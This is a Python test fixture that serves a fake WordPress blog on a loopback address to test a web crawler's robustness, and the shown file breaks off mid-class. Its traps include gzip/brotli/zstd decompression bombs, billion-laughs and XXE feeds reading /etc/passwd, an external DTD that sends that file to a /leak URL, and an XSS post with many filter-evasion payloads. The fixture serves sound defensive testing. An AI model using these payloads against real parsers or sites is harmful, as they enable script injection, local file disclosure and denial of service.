"""A hostile site for the crawler's robustness tests: the worst of the web, on one loopback address.

It looks like a small WordPress 3.x blog ("Downline Diaries"): a home page, five posts that
must end up stored, a sidebar whose "Links" widget leads to every trap, a feed, a REST API
and a sitemap. The traps:

| family | paths | what the crawler must do |
| --- | --- | --- |
| decompression bombs | `/bomb/gzip/`, `/bomb/deflate/`, `/bomb/br/`, `/bomb/zstd/`, `/bomb/gzip-gzip/` | stop at DOWNLOAD_MAXSIZE after decompression (32 MB of zeros, sent in under 35 KB) |
| oversized pages | `/big/length/` (9 MB, Content-Length), `/big/stream/` (9 MB, no length), `/big/page/` (3 MB) | refuse past DOWNLOAD_MAXSIZE; an HTML page past REPRINTS_MAX_PAGE_BYTES is not extracted |
| XML entities | `/feed/` (billion laughs), `/feeds/xxe.xml` (file:///etc/passwd), `/feeds/dtd.xml` (external DTD), `/feeds/padded.xml` (entities declared past the first 4 KB), `/sitemap.xml` (XXE), `/sitemap_index.xml` (billion laughs); the two sitemaps are meant as extra start URLs | refuse, never expand, never fetch `/evil.dtd` |
| deep JSON | `/wp-json/wp/v2/posts` (a list nested 100,000 deep) | count it as bad JSON |
| infinite calendar | `/calendar/2026/11/` -> previous and next month, forever | bounded by DEPTH_LIMIT |
| session ids | `/shop/?sid=`, `/catalog/;jsessionid=`, `/members-area/?PHPSESSID=`, `/store/?osCsid=`, `/forum/?sessionid=`: every link carries a fresh id | a handful of canonical pages, once each |
| other schemes | `/go/file`, `/go/data`, `/go/ftp`, `/go/javascript`, `/go/gopher`, `/go/s3` (302), `/go/refresh` (meta refresh to file:) | refused, nothing read |
| redirect chain | `/go/chain/N` -> `/go/chain/N+1` forever | stopped at REDIRECT_MAX_TIMES |
| stalls | `/slow/stall/` (headers, 1 KB, silence), `/slow/drip/` (a byte every 0.5 s), `/slow/silent/` (no answer) | timed out at DOWNLOAD_TIMEOUT |
| charsets | `/2026/10/cafe-meetings-soft-invitation/` declares ISO-8859-1, sends UTF-8; `/2026/10/resume-skills-direct-sales/` declares UTF-8, sends Windows-1252 | stored with the right characters |
| script | `/2026/09/five-questions-opportunity-meeting/`: `<script>`, on* handlers, `javascript:` links in the body and in comments | stored; nothing of it runs in the article page |

Every request is logged (`HostileSite.requests`) so tests can count what the crawler asked for.

    with HostileSite() as site:          # port 0: a free port on 127.0.0.21
        site.start_url                   # 'http://127.0.0.21:41234/'
        site.requests                    # [HostileRequest(method, path, status), ...]
        site.count("/calendar/")         # requests whose path starts so

`python -m crawler.sampleweb.hostile --port 8121` serves it until Ctrl-C.
"""

from __future__ import annotations

import errno
import functools
import html
import json
import re
import secrets
import socketserver
import threading
import time
import zlib
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl, urlsplit

HOST = "127.0.0.21"
SITE_NAME = "Downline Diaries"
# Bombs: this many zero bytes, compressed (decompression must stop at DOWNLOAD_MAXSIZE, 8 MB).
BOMB_BYTES = 32 * 1024 * 1024
# Oversized pages: past DOWNLOAD_MAXSIZE (8 MB) and past REPRINTS_MAX_PAGE_BYTES (2 MB) only.
OVER_MAXSIZE_BYTES = 9 * 1024 * 1024
OVER_PAGE_LIMIT_BYTES = 3 * 1024 * 1024
# A stalled response gives up at the latest after this long (or when the site stops).
STALL_SECONDS = 120
DRIP_INTERVAL = 0.5
# The deep JSON list of the REST API trap.
JSON_DEPTH = 100_000
# Handlers blocked on a client (or stalling on purpose) give up after this long.
CLIENT_TIMEOUT_SECONDS = 30
REQUEST_LOG_SIZE = 100_000


# -- the good posts -----------------------------------------------------------------------------------

@dataclass(frozen=True)
class Post:
    """One post of the blog: what must end up stored."""

    path: str
    title: str
    published: str  # ISO date
    paragraphs: tuple[str, ...]
    charset: str = "utf-8"  # the charset the bytes are in
    declared: str = "utf-8"  # the charset the headers and <meta> claim
    extra_html: str = ""  # raw HTML put after the paragraphs (the script trap)
    comments: tuple[tuple[str, str, str], ...] = ()  # (author, author href or "", body HTML)


GOOD_POSTS = (
    Post(
        "/2026/11/first-ninety-days-network-marketing/",
        "Why Your First Ninety Days in Network Marketing Decide So Much",
        "2026-11-02",
        (
            "Every network marketing company talks about the first ninety days, and for once the "
            "training manuals are right. The habits a new distributor builds in those three months "
            "tend to become the business they run for the next three years.",
            "The first habit is a weekly schedule that survives a bad week. A new distributor who "
            "blocks out six hours, every week, for calls, follow-ups and product orders will outlast "
            "one who works twenty hours in the first fortnight and then disappears for a month.",
            "The second habit is keeping a simple record. Write down who you spoke to, what they "
            "said and when you promised to call back. Most of the business that is lost in the "
            "first quarter is lost to forgotten follow-ups, not to rejection.",
            "The third habit is learning from your sponsor without copying every word. Your upline "
            "has a script that works for them. Use it as a map, then find the sentences that sound "
            "like you, because prospects can hear the difference.",
            "Finally, judge the quarter by activity rather than income. Ninety days is too short to "
            "measure a downline, but it is long enough to see whether you kept your promises to "
            "yourself. A distributor who did will usually still be here next year.",
        ),
    ),
    Post(
        "/2026/11/retail-customers-quiet-foundation/",
        "Retail Customers: The Quiet Foundation of a Lasting Downline",
        "2026-11-09",
        (
            "Recruiting gets the applause at conventions, but retail customers pay the bills in a "
            "healthy network marketing business. A customer who reorders every month is proof that "
            "the product is worth buying for its own sake.",
            "Regulators look at the same thing. A compensation plan in which most volume comes from "
            "distributors buying to qualify for bonuses is the pattern that separates a pyramid "
            "scheme from a legitimate direct sales company.",
            "Customers also teach you the product. They ask questions a distributor never thinks to "
            "ask, they tell you which flavor tastes like chalk, and they send their neighbors when "
            "the service is good.",
            "Set a goal for customers before you set a goal for recruits. Ten loyal customers will "
            "steady your volume through the months when nobody joins your team, and those are the "
            "months when most people quit.",
        ),
    ),
    Post(
        "/2026/11/reading-income-disclosure-statement/",
        "How to Read an MLM Income Disclosure Statement Before You Sign",
        "2026-11-16",
        (
            "Most established multi-level marketing companies publish an income disclosure "
            "statement. Few prospects read it, and fewer read it carefully. It is the single most "
            "useful page you will find before you sign a distributor agreement.",
            "Start with the share of participants who earned nothing at all. Many statements only "
            "count active distributors, which quietly leaves out everyone who joined and quit during "
            "the year. Look for the footnote that says who was counted.",
            "Next, find the median rather than the average. A handful of top earners at the top of "
            "the plan can lift the average far above what a typical distributor takes home.",
            "Then subtract expenses. Disclosure figures are gross commissions. Product purchases, "
            "event tickets, travel and marketing tools come out of that figure, and for many "
            "part-time distributors they take all of it.",
            "None of this means the opportunity is bad. It means you can go in with realistic "
            "expectations, and realistic expectations are what keep people building long enough "
            "to succeed.",
        ),
    ),
)

CHARSET_POSTS = (
    # Declares ISO-8859-1 (header and <meta>), sends UTF-8: the reader sees mojibake unless repaired.
    Post(
        "/2026/10/cafe-meetings-soft-invitation/",
        "Café Meetings and the Art of the Soft Invitation",
        "2026-10-12",
        (
            "A café is the natural office of a network marketer. It is neutral ground, it is public, "
            "and nobody feels trapped by a cup of coffee. That is exactly why it works — and why it "
            "is so easy to misuse.",
            "The soft invitation sounds like this: “I’ve started something on the side and I’d love "
            "your honest opinion.” It is not a pitch. It is a request for advice, and people are "
            "generous with advice in a way they are never generous with money.",
            "Don’t ambush anyone. If you asked a friend to coffee to catch up, catch up. Mention the "
            "business only if it comes up naturally, and let it go if your friend changes the subject.",
            "The naïve mistake is counting meetings instead of relationships. Ten coffees with people "
            "who feel respected are worth more than fifty with people who now avoid your calls.",
        ),
        charset="utf-8",
        declared="iso-8859-1",
    ),
    # Declares UTF-8, sends Windows-1252: the curly quotes and accents are not valid UTF-8.
    Post(
        "/2026/10/resume-skills-direct-sales/",
        "Résumé Skills That Transfer to Direct Sales",
        "2026-10-19",
        (
            "People who join a direct sales company from a salaried job often feel they are starting "
            "from zero. They are not. Look at your résumé again with a distributor’s eyes.",
            "If you ever handled customer complaints, you already know how to hear “no” without "
            "taking it personally. If you trained new colleagues, you already know duplication — "
            "the heart of building a downline.",
            "Project managers know follow-up. Teachers know how to explain a compensation plan so "
            "that it makes sense. Nurses know how to listen before they recommend anything.",
            "Write down three skills you used in your last job and one way each of them helps your "
            "new business. It is a better plan than any script your upline hands you.",
        ),
        charset="cp1252",
        declared="utf-8",
    ),
)

# Everything the script trap sets: if any of it runs, `window.__pwned` or the title says so.
PWN = "window.__pwned=1;document.title='PWNED'"
SCRIPT_POST = Post(
    "/2026/09/five-questions-opportunity-meeting/",
    "Five Questions to Ask at Your Next Opportunity Meeting",
    "2026-09-21",
    (
        "Opportunity meetings are designed to create excitement, and excitement is a poor state in "
        "which to sign anything. Bring five questions with you and ask them before you fill in a form.",
        "First, what share of distributors earned more than they spent last year? Second, how much "
        "of the company's volume goes to retail customers who are not distributors?",
        "Third, what does it cost each month to stay qualified for commissions? Fourth, will the "
        "company buy back unsold inventory? Fifth, who exactly will train me, and when?",
        "A good sponsor answers all five without hesitation. A sponsor who changes the subject has "
        "answered them too, in a different way. Write the answers down: <script>alert('not me')</script> "
        "is just text when a page is built right.",
    ),
    extra_html=(
        f'<p>Watch the presentation <script>{PWN}</script>closely.</p>\n'
        f'<p><img src="/missing.png" onerror="{PWN}" alt="chart"> The income chart tells a story.</p>\n'
        f'<p onclick="{PWN}" onmouseover="{PWN}">Read the <a href="javascript:{PWN}">income disclosure</a>, '
        f'the <a href="JaVaScRiPt:{PWN}">policies</a>, the <a href=" java&#09;script:{PWN}">refund terms</a> '
        f'and the <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">fine print</a>.</p>\n'
        f'<svg onload="{PWN}"><circle r="4"/></svg>\n'
        f'<iframe src="javascript:{PWN}"></iframe>\n'
        f'<form action="javascript:{PWN}"><button formaction="javascript:{PWN}">Join now</button></form>\n'
        f'<noscript><p title="</noscript><img src=x onerror={PWN}>">Scripts off.</p></noscript>\n'
        f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></mglyph></table></mtext></math>\n'
        f'<p><a href="/2026/11/first-ninety-days-network-marketing/" onclick="{PWN}">Your first ninety days</a> '
        f'matter more than any meeting.</p>\n'
    ),
    comments=(
        ("Dana Whitfield", f"JaVaScRiPt:{PWN}",
         "<p>Question three saved me from a company with a $99 monthly autoship. Thank you for this.</p>"),
        ("Marco Ruiz", f" java&#09;script:{PWN}",
         f"<p>My sponsor could not answer question one. <script>{PWN}</script>I did not join.</p>"),
        ("Priya Natarajan", "data:text/html,<script>alert(1)</script>",
         f"<p onmouseover=\"{PWN}\">The buyback question matters most; inventory loading ruined my first year.</p>"),
    ),
)

POSTS = GOOD_POSTS + CHARSET_POSTS + (SCRIPT_POST,)


# -- the traps ----------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Trap:
    """One trap: where it is, what it is, and the reason the crawl must count (or None: no error)."""

    path: str
    family: str
    reason: str | None
    note: str
    linked: bool = True  # in the sidebar; False: reached by WordPress navigation or as a start URL


SESSION_PATHS = {
    "/shop/": "sid",
    "/members-area/": "PHPSESSID",
    "/store/": "osCsid",
    "/forum/": "sessionid",
}
SESSION_PAGES = 3  # each session area has pages 1..3 (and the jsessionid catalog items 1..3)

TRAPS = (
    Trap("/bomb/gzip/", "bomb", "too_large", "gzip: 32 MB of zeros in ~33 KB"),
    Trap("/bomb/deflate/", "bomb", "too_large", "deflate (zlib): 32 MB of zeros in ~33 KB"),
    Trap("/bomb/br/", "bomb", "too_large", "brotli: 32 MB of zeros in under 100 B"),
    Trap("/bomb/zstd/", "bomb", "too_large", "zstd: 32 MB of zeros in ~1 KB"),
    Trap("/bomb/gzip-gzip/", "bomb", "too_large", "gzip inside gzip: 32 MB of zeros in ~200 B"),
    Trap("/big/length/", "oversized", "too_large", "9 MB of HTML with a Content-Length"),
    Trap("/big/stream/", "oversized", "too_large", "9 MB of HTML without a Content-Length"),
    Trap("/big/page/", "oversized", "too_large", "3 MB of HTML: fetched, too big to extract"),
    Trap("/feed/", "xml", "bad_feed", "RSS with a billion-laughs entity declaration, every ?paged=N", linked=False),
    Trap("/feeds/xxe.xml", "xml", "bad_feed", "RSS with an external entity: file:///etc/passwd"),
    Trap("/feeds/dtd.xml", "xml", None, "RSS naming an external DTD (/evil.dtd), never to be fetched"),
    Trap("/feeds/padded.xml", "xml", None, "billion laughs declared after 5 KB of comment"),
    Trap("/sitemap.xml", "xml", "bad_feed", "sitemap with an external entity (a start URL)", linked=False),
    Trap("/sitemap_index.xml", "xml", "bad_feed", "sitemap index with a billion-laughs declaration (a start URL)",
         linked=False),
    Trap("/wp-json/wp/v2/posts?per_page=50&page=1", "json", "bad_json", "a JSON list nested 100,000 deep",
         linked=False),
    Trap("/calendar/2026/11/", "calendar", None, "an events calendar: previous and next month, forever"),
    *(Trap(f"{path}?{param}=", "session", None, f"{param} in every link, fresh each time")
      for path, param in SESSION_PATHS.items()),
    Trap("/catalog/;jsessionid=", "session", None, "jsessionid path parameter in every link"),
    Trap("/go/file", "scheme", "refused_scheme", "302 to file:///etc/passwd"),
    Trap("/go/data", "scheme", "refused_scheme", "302 to a data: URL holding a script"),
    Trap("/go/ftp", "scheme", "refused_scheme", "301 to ftp://"),
    Trap("/go/javascript", "scheme", "refused_scheme", "302 to javascript:"),
    Trap("/go/gopher", "scheme", "refused_scheme", "302 to gopher://"),
    Trap("/go/s3", "scheme", "refused_scheme", "302 to s3://"),
    Trap("/go/refresh", "scheme", None, "200 with a meta refresh to file:///etc/passwd (not followed)"),
    Trap("/go/chain/1", "redirect", "too_many_redirects", "a redirect chain that never ends"),
    Trap("/slow/stall/", "stall", "timeout", "headers, 1 KB of body, then silence"),
    Trap("/slow/drip/", "stall", "timeout", "one byte every half second, forever"),
    Trap("/slow/silent/", "stall", "timeout", "reads the request, never answers"),
)


def trap_link(trap: Trap) -> str:
    """The href the sidebar gives a trap (session traps get a fresh id)."""
    if trap.family == "session":
        return session_link(trap.path.split("?")[0].split(";")[0], 1)
    return trap.path


def session_link(area: str, page: int) -> str:
    """A link into a session area, with a session id nobody has seen before."""
    token = secrets.token_hex(16)
    if area == "/catalog/":
        return f"/catalog/item-{page};jsessionid={token.upper()}"
    return f"{area}?{SESSION_PATHS[area]}={token}&page={page}"


# -- compressed bodies ----------------------------------------------------------------------------------

_ZERO_CHUNK = b"\0" * (1 << 20)


@functools.lru_cache(maxsize=None)
def bomb_body(encoding: str) -> bytes:
    """BOMB_BYTES of zeros compressed with `encoding` ("gzip", "deflate", "br", "zstd", "gzip-gzip")."""
    chunks = BOMB_BYTES // len(_ZERO_CHUNK)
    if encoding in ("gzip", "deflate", "gzip-gzip"):
        wbits = 31 if encoding != "deflate" else 15  # 31: gzip wrapper; 15: zlib wrapper (HTTP "deflate")
        compressor = zlib.compressobj(6, zlib.DEFLATED, wbits)
        data = b"".join(compressor.compress(_ZERO_CHUNK) for _ in range(chunks)) + compressor.flush()
        if encoding == "gzip-gzip":
            outer = zlib.compressobj(9, zlib.DEFLATED, 31)
            data = outer.compress(data) + outer.flush()
        return data
    if encoding == "br":
        import brotli

        compressor = brotli.Compressor(quality=5)
        return b"".join(compressor.process(_ZERO_CHUNK) for _ in range(chunks)) + compressor.finish()
    if encoding == "zstd":
        try:
            from compression import zstd  # Python 3.14
        except ImportError:
            from backports import zstd  # what Scrapy itself imports on older Pythons
        compressor = zstd.ZstdCompressor()
        return b"".join(compressor.compress(_ZERO_CHUNK) for _ in range(chunks)) + compressor.flush()
    raise ValueError(f"unknown bomb encoding {encoding!r}")


BOMB_ENCODINGS = ("gzip", "deflate", "br", "zstd", "gzip-gzip")


def prepare_bombs() -> None:
    """Compress every bomb once, in parallel (zlib, brotli and zstd release the GIL), before serving."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(len(BOMB_ENCODINGS)) as pool:
        list(pool.map(bomb_body, BOMB_ENCODINGS))


# -- pages ----------------------------------------------------------------------------------------------

def _e(text: str) -> str:
    return html.escape(text, quote=True)


def page(title: str, content: str, body_class: str = "home blog", charset: str = "UTF-8",
         head: str = "") -> str:
    """A WordPress 3.x (Twenty Ten) page around `content`, with the sidebar of trap links."""
    recent = "\n".join(f'<li><a href="{p.path}">{_e(p.title)}</a></li>' for p in POSTS)
    links = "\n".join(f'<li><a href="{_e(trap_link(t))}">{_e(t.note)}</a></li>' for t in TRAPS if t.linked)
    return f"""<!DOCTYPE html>
<html dir="ltr" lang="en-US">
<head>
<meta charset="{charset}" />
<title>{_e(title)}</title>
<link rel="alternate" type="application/rss+xml" title="{SITE_NAME} &raquo; Feed" href="/feed/" />
<meta name="generator" content="WordPress 3.3.1" />
{head}
</head>
<body class="{body_class}">
<div id="wrapper" class="hfeed">
<div id="header"><div id="branding"><div id="site-title"><a href="/" rel="home">{SITE_NAME}</a></div>
<div id="site-description">Notes from twelve years in direct sales</div></div>
<div id="access"><div class="menu"><ul><li><a href="/">Home</a></li>
<li><a href="file:///etc/passwd">Local file</a></li><li><a href="javascript:{PWN}">Tools</a></li>
<li><a href="mailto:dana@example.com">Contact</a></li></ul></div></div></div>
<div id="main"><div id="container"><div id="content" role="main">
{content}
</div></div>
<div id="primary" class="widget-area"><ul class="xoxo">
<li class="widget-container widget_recent_entries"><h3 class="widget-title">Recent Posts</h3><ul>
{recent}
</ul></li>
<li class="widget-container widget_links"><h3 class="widget-title">Links</h3><ul class="xoxo blogroll">
{links}
</ul></li>
</ul></div></div>
<div id="footer"><div id="site-info"><a href="/" rel="home">{SITE_NAME}</a> &copy; 2026 Dana Whitfield.</div></div>
</div>
<script type="text/javascript">{PWN}</script>
</body>
</html>
"""


def post_html(post: Post, number: int) -> str:
    """A single post page (Twenty Ten markup, as the sample web's WordPress site)."""
    paragraphs = "\n".join(f"<p>{_e(p)}</p>" for p in post.paragraphs) + "\n" + post.extra_html
    comments = ""
    if post.comments:
        items = []
        for n, (author, href, body) in enumerate(post.comments, 1):
            name = f'<a href="{href}" rel="external nofollow" class="url">{_e(author)}</a>' if href else _e(author)
            items.append(f"""<li class="comment even thread-even depth-1" id="li-comment-{n}">
<div id="comment-{n}"><div class="comment-author vcard"><cite class="fn">{name}</cite> <span class="says">says:</span></div>
<div class="comment-meta commentmetadata"><a href="{post.path}#comment-{n}">{post.published} at 9:1{n} am</a></div>
<div class="comment-body">{body}</div></div></li>""")
        comments = (f'<div id="comments"><h3 id="comments-title">{len(items)} Responses to <em>{_e(post.title)}</em></h3>'
                    f'<ol class="commentlist">{"".join(items)}</ol></div>')
    content = f"""<div id="post-{number}" class="post-{number} post type-post status-publish format-standard hentry category-network-marketing">
<h1 class="entry-title">{_e(post.title)}</h1>
<div class="entry-meta"><span class="meta-prep meta-prep-author">Posted on</span>
<a href="{post.path}" rel="bookmark"><span class="entry-date">{post.published}</span></a>
<span class="meta-sep">by</span> <span class="author vcard"><a class="url fn n" href="/author/dana/">Dana Whitfield</a></span></div>
<div class="entry-content">
{paragraphs}
</div>
<div class="entry-utility">Posted in <a href="/category/network-marketing/" rel="category tag">Network Marketing</a></div>
</div>
{comments}"""
    head = f"<link rel='canonical' href='{post.path}' />"
    return page(f"{post.title} | {SITE_NAME}", content, f"single single-post postid-{number} single-format-standard",
                charset=post.declared, head=head)


def home_html() -> str:
    items = "\n".join(
        f'<div class="post hentry"><h2 class="entry-title"><a href="{p.path}" rel="bookmark">{_e(p.title)}</a></h2>'
        f'<div class="entry-summary"><p>{_e(p.paragraphs[0])}</p></div></div>' for p in POSTS)
    return page(SITE_NAME, items)


def calendar_html(year: int, month: int) -> str:
    """An events calendar month: links to the previous and next month, forever."""
    prev_y, prev_m = (year, month - 1) if month > 1 else (year - 1, 12)
    next_y, next_m = (year, month + 1) if month < 12 else (year + 1, 1)
    content = (f'<h1 class="page-title">Team events, {year}-{month:02d}</h1>'
               f'<table class="calendar"><tr><td>No events this month.</td></tr></table>'
               f'<p><a href="/calendar/{prev_y}/{prev_m:02d}/">&laquo; Previous month</a> | '
               f'<a href="/calendar/{next_y}/{next_m:02d}/">Next month &raquo;</a></p>')
    return page(f"Events {year}-{month:02d} | {SITE_NAME}", content, "page")


def session_html(area: str, page_number: int) -> str:
    """A page of a session-id area: every link carries a fresh session id."""
    links = " | ".join(f'<a href="{_e(session_link(area, n))}">Page {n}</a>' for n in range(1, SESSION_PAGES + 1))
    others = " | ".join(f'<a href="{_e(session_link(other, 1))}">{other.strip("/")}</a>'
                        for other in (*SESSION_PATHS, "/catalog/") if other != area)
    content = (f'<h1 class="page-title">{area.strip("/").title()} page {page_number}</h1>'
               f'<p>Members only offers. {links}</p><p>Elsewhere: {others}</p>')
    return page(f"{area.strip('/').title()} | {SITE_NAME}", content, "page")


def _billion_laughs(levels: int = 10) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{n} "{("&lol%d;" % (n - 1)) * 10}">' for n in range(1, levels)]
    return "\n".join(lines)


def rss(items: list[tuple[str, str]], doctype: str = "", title: str = SITE_NAME) -> str:
    entries = "\n".join(f"<item><title>{t}</title><link>{link}</link><pubDate>Mon, 02 Nov 2026 09:00:00 +0000</pubDate>"
                        f"</item>" for t, link in items)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n<rss version="2.0"><channel><title>{title}</title>'
            f"<link>/</link>\n{entries}\n</channel></rss>\n")


def xml_traps(base: str) -> dict[str, str]:
    """Every XML trap by path (absolute URLs need the site's base)."""
    post = base + GOOD_POSTS[0].path
    laughs = f"<!DOCTYPE rss [\n{_billion_laughs()}\n]>"
    padding = "<!-- " + "padding " * 700 + "-->"  # 5.6 KB: past a check of the first 4 KB only
    return {
        "/feed/": rss([("&lol9;", post)], laughs),
        "/feeds/xxe.xml": rss([("&xxe;", post)], '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
        "/feeds/dtd.xml": rss([("Team call notes", post)],
                              f'<!DOCTYPE rss SYSTEM "{base}/evil.dtd">'),
        "/feeds/padded.xml": rss([("&lol9;", post)], f"<!DOCTYPE rss [\n{padding}\n{_billion_laughs()}\n]>"),
        "/sitemap.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"<url><loc>{post}</loc></url><url><loc>{base}/&xxe;</loc></url></urlset>\n"),
        "/sitemap_index.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sitemapindex [\n{_billion_laughs()}\n]>\n'
            '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"<sitemap><loc>{base}/sitemap-&lol9;.xml</loc></sitemap></sitemapindex>\n"),
        "/evil.dtd": f'<!ENTITY % file SYSTEM "file:///etc/passwd">\n<!ENTITY % all "<!ENTITY send SYSTEM \'{base}/leak?%file;\'>">\n%all;\n',
    }


# -- the server ---------------------------------------------------------------------------------------

@dataclass(frozen=True)
class HostileRequest:
    method: str
    path: str  # path and query as requested
    status: int


REDIRECTS = {
    "/go/file": (302, "file:///etc/passwd"),
    "/go/data": (302, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    "/go/ftp": (301, "ftp://127.0.0.21/pub/network-marketing.txt"),
    "/go/javascript": (302, "javascript:alert(document.domain)"),
    "/go/gopher": (302, "gopher://127.0.0.21:70/1/"),
    "/go/s3": (302, "s3://reprints-private/secrets.txt"),
}
CALENDAR_RE = re.compile(r"^/calendar/(\d{4})/(\d{2})/$")
CHAIN_RE = re.compile(r"^/go/chain/(\d+)$")
POST_NUMBERS = {post.path: 100 + n for n, post in enumerate(POSTS)}


class HostileHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = CLIENT_TIMEOUT_SECONDS
    disable_nagle_algorithm = True
    server: HostileServer

    def version_string(self) -> str:
        return "Apache/2.2.22 (Ubuntu)"

    def log_message(self, format: str, *args) -> None:  # noqa: A002 - the base class's name
        pass  # the request log is HostileSite.requests

    def do_HEAD(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:  # noqa: C901 - one branch per trap reads best as a table
        split = urlsplit(self.path)
        path = split.path
        site = self.server.site
        base = site.base_url
        if path.startswith("/slow/"):
            self.stall(path)
            return
        if path == "/robots.txt":
            self.send(200, "User-agent: *\nDisallow: /wp-admin/\n\nSitemap: " + base + "/sitemap.xml\n",
                      "text/plain; charset=utf-8")
        elif path == "/" or path in ("/category/network-marketing/", "/author/dana/"):
            self.send(200, home_html())
        elif path in POST_NUMBERS:
            post = next(p for p in POSTS if p.path == path)
            body = post_html(post, POST_NUMBERS[path]).encode(post.charset)
            self.send(200, body, f"text/html; charset={post.declared.upper()}")
        elif path.startswith("/bomb/"):
            encoding = path.strip("/").split("/", 1)[1]
            try:
                body = bomb_body(encoding)
            except ValueError:
                self.send(404, page("Not found", "<h1>Not found</h1>", "error404"))
                return
            self.send(200, body, content_encoding="gzip, gzip" if encoding == "gzip-gzip" else encoding)
        elif path == "/big/length/":
            self.send(200, self.big_page(OVER_MAXSIZE_BYTES))
        elif path == "/big/page/":
            self.send(200, self.big_page(OVER_PAGE_LIMIT_BYTES))
        elif path == "/big/stream/":
            self.stream_big()
        elif path in self.server.xml:
            kind = "application/xml-dtd" if path.endswith(".dtd") else "application/rss+xml" if "feed" in path \
                else "application/xml"
            self.send(200, self.server.xml[path], f"{kind}; charset=UTF-8")
        elif path.startswith("/wp-json/"):
            self.send(200, "[" * JSON_DEPTH + "]" * JSON_DEPTH, "application/json; charset=UTF-8")
        elif CALENDAR_RE.match(path):
            year, month = map(int, CALENDAR_RE.match(path).groups())
            if 1 <= month <= 12:
                self.send(200, calendar_html(year, month))
            else:
                self.send(404, page("Not found", "<h1>Not found</h1>", "error404"))
        elif path in SESSION_PATHS:
            number = int(dict(parse_qsl(split.query)).get("page", "1") or 1) if split.query else 1
            self.send(200, session_html(path, min(max(number, 1), SESSION_PAGES)))
        elif path.startswith("/catalog/"):
            self.send(200, session_html("/catalog/", 1))
        elif path in REDIRECTS:
            status, location = REDIRECTS[path]
            self.redirect(status, location)
        elif path == "/go/refresh":
            self.send(200, page("Moved", "<p>This page has moved.</p>",
                                head='<meta http-equiv="refresh" content="0; url=file:///etc/passwd" />'))
        elif CHAIN_RE.match(path):
            self.redirect(302, f"/go/chain/{int(CHAIN_RE.match(path).group(1)) + 1}")
        else:
            self.send(404, page("Page not found", "<h1>Not found</h1><p>Apologies, nothing here.</p>", "error404"))

    # -- answers --------------------------------------------------------------------------------------

    def record(self, status: int) -> None:
        self.server.site._record(HostileRequest(self.command, self.path, status))

    def send(self, status: int, body: str | bytes, content_type: str = "text/html; charset=UTF-8",
             content_encoding: str | None = None) -> None:
        data = body.encode("utf-8") if isinstance(body, str) else body
        self.record(status)
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        if content_encoding:
            self.send_header("Content-Encoding", content_encoding)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)

    def redirect(self, status: int, location: str) -> None:
        self.record(status)
        self.send_response(status)
        self.send_header("Location", location)
        self.send_header("Content-Type", "text/html; charset=UTF-8")
        self.send_header("Content-Length", "0")
        self.end_headers()

    @staticmethod
    def big_page(size: int) -> bytes:
        paragraph = (b"<p>Network marketing rewards patience: a distributor who follows up with every "
                     b"prospect, week after week, builds a downline that lasts.</p>\n")
        head = b"<!DOCTYPE html><html><head><meta charset='utf-8'><title>Everything about MLM</title></head><body>"
        return head + paragraph * ((size - len(head)) // len(paragraph) + 1) + b"</body></html>"

    def stream_big(self) -> None:
        """9 MB without a Content-Length: the body ends when the connection closes."""
        self.record(200)
        self.close_connection = True
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=UTF-8")
        self.send_header("Connection", "close")
        self.end_headers()
        data = self.big_page(OVER_MAXSIZE_BYTES)
        try:
            for start in range(0, len(data), 1 << 16):
                self.wfile.write(data[start:start + (1 << 16)])
        except OSError:
            pass  # the crawler hung up at its limit, as it should

    def stall(self, path: str) -> None:
        """Start answering, then hold the connection open without finishing."""
        stopping = self.server.site._stopping
        self.close_connection = True
        try:
            if path == "/slow/silent/":
                self.record(0)
                stopping.wait(STALL_SECONDS)
                return
            self.record(200)
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=UTF-8")
            if path == "/slow/drip/":
                self.send_header("Content-Length", "1000000")
                self.end_headers()
                self.wfile.write(b"<!DOCTYPE html><html><body><p>")
                deadline = time.monotonic() + STALL_SECONDS
                while time.monotonic() < deadline and not stopping.wait(DRIP_INTERVAL):
                    self.wfile.write(b"z")
                    self.wfile.flush()
                return
            self.send_header("Content-Length", "100000")
            self.end_headers()
            self.wfile.write(b"<!DOCTYPE html><html><head><title>Loading</title></head><body>" + b"<p>wait</p>" * 90)
            self.wfile.flush()
            stopping.wait(STALL_SECONDS)
        except OSError:
            pass  # the crawler gave up and closed the connection


class HostileServer(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    site: HostileSite
    xml: dict[str, str]

    def server_bind(self) -> None:
        # No reverse lookup of the loopback name (HTTPServer.server_bind calls socket.getfqdn).
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address[:2]

    def handle_error(self, request, client_address) -> None:
        # A crawler that hangs up at its size or time limit is the point of this site, not an error.
        import sys

        if not isinstance(sys.exc_info()[1], (ConnectionError, TimeoutError)):
            super().handle_error(request, client_address)


class HostileSite:
    """The hostile blog on `host` (default 127.0.0.21), served from a background thread."""

    def __init__(self, port: int = 0, host: str = HOST):
        if not 0 <= port <= 65535:
            raise ValueError(f"port must be 0-65535, not {port}")
        self.host = host
        self.port = port
        self._server: HostileServer | None = None
        self._thread: threading.Thread | None = None
        self._lock = threading.Lock()
        self._log: list[HostileRequest] = []
        self._stopping = threading.Event()

    def start(self) -> str:
